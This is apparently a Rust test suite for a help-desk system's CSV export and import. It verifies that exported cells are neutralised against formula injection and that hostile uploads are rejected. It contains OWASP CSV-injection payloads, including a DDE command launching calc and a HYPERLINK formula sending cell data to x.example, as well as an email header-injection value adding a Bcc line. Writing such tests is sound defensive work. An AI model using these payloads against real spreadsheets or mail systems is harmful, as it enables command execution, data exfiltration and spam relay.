//! Cells: what goes out is no formula in any spreadsheet, and what comes in as a file is read or refused, and never half.

use client::Method;
use serde_json::{Value, json};

use crate::routes::tickets::given::{self, categorise, close, done, escalate, request};
use crate::world::{Answered, Area, Who, World};

/// What begins a formula (OWASP, «CSV Injection»), as far as a line of text can begin so.
const FORMULAS: [&str; 6] =
    ["=cmd|' /C calc'!A0", "+51 1 2145", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"Ver\")", "=1,=2"];

/// The cells of a file (RFC 4180).
fn cells(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut is_quoted, mut signs) = (false, text.chars().peekable());
    while let Some(sign) = signs.next() {
        match sign {
            '"' if is_quoted && signs.peek() == Some(&'"') => cell.push(signs.next().unwrap()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {}
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(!is_quoted && cell.is_empty() && row.is_empty(), "the last line ends: {text}");
    rows
}

#[track_caller]
fn no_cell_is_a_formula(path: &str, answered: &Answered) -> Vec<Vec<String>> {
    let rows = cells(&answered.text());
    let n_cells = rows[0].len();
    for row in &rows {
        assert_eq!(row.len(), n_cells, "every line has as many cells as the first: {path}: {row:?}");
        for cell in row {
            let begins = cell.trim_start().chars().next().unwrap_or(' ');
            let is_number = cell.parse::<f64>().is_ok();
            assert!(is_number || !['=', '+', '-', '@', '\t', '\r', '\n'].contains(&begins), "a formula in {path}: {cell:?}");
        }
    }
    rows
}

/// A service, an area, a person who asks in it and one who solves, all of that name; and a ticket on its way to a decision. Returns another, closed.
fn named(world: &World, name: &str, n: usize) -> i64 {
    let service = world.admin().post("/services", json!({ "name": name, "description": name })).must(201).id();
    let area = world
        .admin()
        .post("/areas", json!({ "name": name, "abbreviation": format!("={n}"), "parent": world.area(Area::Administration) }))
        .must(201)
        .id();
    let contact =
        world.help_desk().post("/contacts", json!({ "name": name, "area": area, "place": name, "extension": name })).must(201).id();
    let mut asked = given::call(contact, name);
    asked["service"] = service.into();
    asked["place"] = name.into();
    asked["equipment"] = name.into();
    let ticket = world.help_desk().create(asked).must(201).id();
    done(world, Who::HelpDesk, ticket, categorise("incident"));
    done(world, Who::HelpDesk, ticket, json!({ "action": "record_solution", "cause": name, "solution": name }));
    done(world, Who::HelpDesk, ticket, json!({ "action": "comment", "text": format!("\t{name}\r\n{name}") }));
    done(world, Who::HelpDesk, ticket, close());
    ticket
}

fn rename(world: &World, who: Who, name: &str) {
    let person = world.admin().get(&format!("/people/{}", world.person(who))).must(200).json();
    let mut body = json!({ "name": name, "post": name, "area": person["area"]["id"], "roles": person["roles"], "email": person["email"] });
    body["extension"] = name.into();
    world.admin().ask(Method::PUT, &format!("/people/{}", world.person(who))).if_match("*").json(body).send().must(200);
}

fn import(world: &World, what: &str, file: impl Into<Vec<u8>>) -> Answered {
    world.admin().ask(Method::POST, &format!("/imports/{what}")).body("text/csv", file.into()).send()
}

/// Everything that is on record, but who signed in.
fn kept(world: &World) -> usize {
    let file = world.auditor().get("/trail.csv").must(200).text();
    cells(&file).iter().filter(|row| row[3] != "session").count()
}

fn utf16(text: &str, is_little: bool) -> Vec<u8> {
    let units = text.encode_utf16().flat_map(|unit| if is_little { unit.to_le_bytes() } else { unit.to_be_bytes() });
    if is_little { [0xFF, 0xFE].into_iter().chain(units).collect() } else { [0xFE, 0xFF].into_iter().chain(units).collect() }
}

on_both! {
    fn no_file_has_a_formula_in_any_cell(world: &World) {
        rename(world, Who::HelpDesk, FORMULAS[0]);
        rename(world, Who::Support2, FORMULAS[1]);
        let tickets: Vec<i64> = FORMULAS.iter().enumerate().map(|(n, formula)| named(world, formula, n)).collect();
        let asked = request(FORMULAS[3]);
        let open = world.user().create(asked).must(201).id();
        done(world, Who::HelpDesk, open, categorise("incident"));
        done(world, Who::HelpDesk, open, escalate(world.person(Who::Support1)));
        done(world, Who::Support1, open, escalate(world.person(Who::Support2)));
        done(world, Who::Support2, open, given::submit(FORMULAS[0]));
        let token = json!({ "name": FORMULAS[0], "scope": "write", "expires_at": world.now() + chrono::TimeDelta::days(3) });
        let secret = world.admin().post("/me/tokens", token).must(201).json()["secret"].as_str().unwrap().to_owned();
        let by_token = world.anonymous().ask(Method::POST, "/services").header("authorization", &format!("Bearer {secret}"));
        by_token.json(json!({ "name": "+2" })).send().must(201);
        world.user().post("/absences", json!({ "from_on": "2027-01-04", "until_on": "2027-01-04", "reason": FORMULAS[0] })).must(201);

        let list = world.auditor().get("/tickets.csv?sort=oldest").must(200);
        let trail = world.auditor().get("/trail.csv").must(200);

        let rows = no_cell_is_a_formula("/tickets.csv", &list);
        let titles: Vec<&str> = rows[1..].iter().map(|row| row[1].as_str()).collect();
        assert_eq!(titles[..tickets.len()], FORMULAS.map(|formula| format!("'{formula}")), "and the text is all there");
        let rows = no_cell_is_a_formula("/trail.csv", &trail);
        let text = serde_json::to_string(&rows).unwrap();
        assert!(FORMULAS[..2].iter().all(|formula| text.contains(&format!("'{formula}"))), "the trail names people and tokens: {text}");
        for language in ["es-PE", "en"] {
            for report in
                ["volume", "breakdown-kind", "breakdown-channel", "breakdown-service", "breakdown-area", "resolution", "times", "waiting", "decisions", "load"]
            {
                let path = format!("/reports/files/{report}.csv");
                let file = world.it_head().ask(Method::GET, &path).header("accept-language", language).send().must(200);
                let rows = no_cell_is_a_formula(&path, &file);
                let is_named = ["breakdown-service", "breakdown-area", "load"].contains(&report);
                assert!(!is_named || rows.iter().flatten().any(|cell| cell == &format!("'{}", FORMULAS[0])), "{path} has the name: {rows:?}");
            }
        }
    }

    fn a_file_that_is_damaged_or_hostile_is_refused_whole(world: &World) {
        let head = "name,email,area\n";
        let good = "Ana,ana@agencia.example,ULOG\n";
        let long = "x".repeat(10 * 1024 * 1024);
        let wide = vec!["name"; 10_000].join(",");
        let many = format!("{head}{}", (0..20_001).map(|n| format!("A,a{n}@agencia.example,ULOG\n")).collect::<String>());
        let cases: Vec<(&str, &str, Vec<u8>, u16, &str)> = vec![
            ("a line of 10 MB", "people", format!("{head}{long},b@agencia.example,ULOG\n").into(), 413, ""),
            ("a line of 4 MB", "people", format!("{head}{good}{},b@agencia.example,ULOG\n", &long[..4 << 20]).into(), 422, "rows[3].name"),
            ("a header of 4 MB", "people", long.as_bytes()[..4 << 20].to_vec(), 422, "file"),
            ("ten thousand columns", "people", format!("{wide}\n").into(), 422, "name"),
            ("more rows than a file may have", "people", many.into(), 422, "file"),
            ("a NUL in a name", "people", format!("{head}{good}E\0va,eva@agencia.example,ULOG\n").into(), 422, "rows[3].name"),
            ("a NUL in an address", "people", format!("{head}{good}Eva,e\0va@agencia.example,ULOG\n").into(), 422, "rows[3].email"),
            ("a NUL in an area", "people", format!("{head}{good}Eva,eva@agencia.example,UL\0OG\n").into(), 422, "rows[3].area"),
            ("nothing but NULs", "people", vec![0; 100_000], 422, "file"),
            ("half of UTF-16", "people", vec![0xFF, 0xFE, b'n', 0, b'a'], 422, "na"),
            ("a bell", "people", format!("{head}{good}E\u{7}va,eva@agencia.example,ULOG\n").into(), 422, "rows[3].name"),
            ("a name from right to left", "people", format!("{head}{good}E\u{202E}va,eva@agencia.example,ULOG\n").into(), 422, "rows[3].name"),
            ("a quote that does not end", "people", format!("{head}{good}\"Eva,eva@agencia.example,ULOG\nLuis,luis@agencia.example,ULOG\n").into(), 422, "rows[3].file"),
            ("a quote in the header", "people", format!("\"{head}{good}").into(), 422, "file"),
            ("twice the same address", "people", format!("{head}{good}Eva,ANA@Agencia.Example,ULOG\n").into(), 422, "rows[3].email"),
            ("an address of somebody else's people", "people", format!("{head}{good}Eva,eva@agencia.example@otra.example,ULOG\n").into(), 422, "rows[3].email"),
            ("a header in a mail's address", "people", format!("{head}{good}Eva,\"eva@agencia.example\r\nBcc: otro@otra.example\",ULOG\n").into(), 422, "rows[3].email"),
            ("a row too short", "people", format!("{head}{good}Eva\n").into(), 422, "rows[3].file"),
            ("nothing", "people", vec![], 422, "name"),
            ("only the mark", "people", vec![0xEF, 0xBB, 0xBF], 422, "name"),
            ("a page", "people", b"<!DOCTYPE html><script>x</script>".to_vec(), 422, "file"),
            ("a spreadsheet's own file", "people", b"PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0xl/workbook.xml".to_vec(), 422, "file"),
            ("a NUL in an area's name", "areas", b"code,name,parent\nT1,Uno,GA\nT2,D\0os,GA\n".to_vec(), 422, "rows[3].name"),
            ("a NUL in an area's code", "areas", b"code,name,parent\nT1,Uno,GA\nT\x002,Dos,GA\n".to_vec(), 422, "rows[3].code"),
            ("a year that no calendar has", "areas", b"code,name,parent,ended_on\nT1,Uno,GA,\nT2,Dos,GA,+10000-01-01\n".to_vec(), 422, "rows[3].ended_on"),
            ("twice the same code", "areas", b"code,name,parent\nT1,Uno,GA\nt1,Dos,GA\n".to_vec(), 422, "rows[3].code"),
        ];
        let before = kept(world);

        for (what, kind, file, status, path) in cases {
            let refused = import(world, kind, file);

            assert_eq!(refused.status, status, "{what}: {}", &refused.to_string().chars().take(600).collect::<String>());
            let problem = refused.problem(status, if status == 413 { "payload_too_large" } else { "invalid_fields" });
            if status == 422 {
                assert_eq!(problem["errors"][0]["path"], path, "{what}: {problem}");
                assert!(refused.bytes().len() < 20_000, "{what}: the refusal does not give it all back: {} bytes", refused.bytes().len());
            }
            assert_eq!(kept(world), before, "{what}: nothing is kept");
        }
    }

    fn a_file_that_is_only_unusual_is_read(world: &World) {
        let rows = "name,email,area\nAna,ana{}@agencia.example,ULOG\n\"Núñez, \"\"Eva\"\"\",eva{}@agencia.example,ULOG\n=1+1,luis{}@agencia.example,ULOG\n";
        let file = |n: usize| rows.replace("{}", &n.to_string());
        let cases: Vec<(&str, Vec<u8>)> = vec![
            ("a mark before it", format!("\u{feff}{}", file(0)).into()),
            ("lines of another system", file(1).replace('\n', "\r\n").into()),
            ("no end of its last line", file(2).trim_end().into()),
            ("UTF-16, as spreadsheets write it", utf16(&file(3).replace("\"Núñez, \"\"Eva\"\"\"", "@Núñez").replace(',', "\t"), true)),
            ("UTF-16 from the other end", utf16(&file(4), false)),
            ("lines of commas at its end", format!("{},,\n,,\n", file(5)).into()),
        ];
        for (n, (what, file)) in cases.into_iter().enumerate() {
            let done = import(world, "people", file).must(200).json();

            assert_eq!((&done["n_created"], &done["n_wrong"]), (&json!(3), &json!(0)), "{what}: {done}");
            let name = |email: String| -> Value {
                let all = world.admin().get("/people?all=true&limit=200").must(200).json();
                all["items"].as_array().unwrap().iter().find(|person| person["email"] == email).unwrap_or_else(|| panic!("{what}: no {email}"))["name"].clone()
            };
            assert_eq!(name(format!("luis{n}@agencia.example")), "=1+1", "{what}: text is text");
            assert!(name(format!("eva{n}@agencia.example")).as_str().unwrap().contains("Núñez"), "{what}");
        }
        let people = world.auditor().get("/trail.csv?entity=person").must(200);
        no_cell_is_a_formula("/trail.csv?entity=person", &people);
    }
}
